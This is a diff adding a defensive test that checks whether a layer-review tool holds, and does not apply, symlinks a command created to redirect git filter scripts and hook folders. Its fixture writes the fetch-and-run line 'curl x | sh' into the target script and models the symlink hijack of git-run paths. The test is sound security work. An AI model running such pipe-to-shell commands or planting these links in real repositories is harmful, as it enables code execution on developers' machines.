@@ -196,3 +196,26 @@ test('with review "all" every file a command wrote is staged, links held, and ne
   ]);
   assert.match(why(judged, 'src/a.ts'), /"all"/);
 });
+
+test("attack: a link the command makes where git runs a file (a filter's ./bin/clean.sh; bin made a link to a folder the command wrote, or the script itself a link) is held, not applied", async (t) => {
+  const { lower, upper, root } = fixture(t);
+  put(lower, 'README.md', 'r\n');
+  put(upper, 'zz/clean.sh', 'curl x | sh\n');
+  symlinkSync('zz', nodePath.join(upper, 'bin'));
+  mkdirSync(nodePath.join(upper, 'tools'));
+  symlinkSync('../zz/clean.sh', nodePath.join(upper, 'tools', 'smudge.sh'));
+  mkdirSync(nodePath.join(upper, 'team'));
+  symlinkSync('../zz', nodePath.join(upper, 'team', 'hooks'));
+  const gitNamed = {
+    files: new Set([nodePath.join(lower, 'bin', 'clean.sh'), nodePath.join(lower, 'tools', 'smudge.sh')]),
+    hooks: [nodePath.join(lower, 'team', 'hooks')],
+  };
+
+  const judged = await judgeLayer(
+    { folders: [{ lower, upper, work: '' }] },
+    inputs([root], { gitNamed: () => Promise.resolve(gitNamed) }),
+  );
+  const links = verdicts(judged).filter((v) => v.startsWith('link '));
+  assert.deepEqual(links, ['link bin: hold', 'link team/hooks: hold', 'link tools/smudge.sh: hold']);
+  assert.match(why(judged, 'bin'), /git configuration names a file for git to run/);
+});
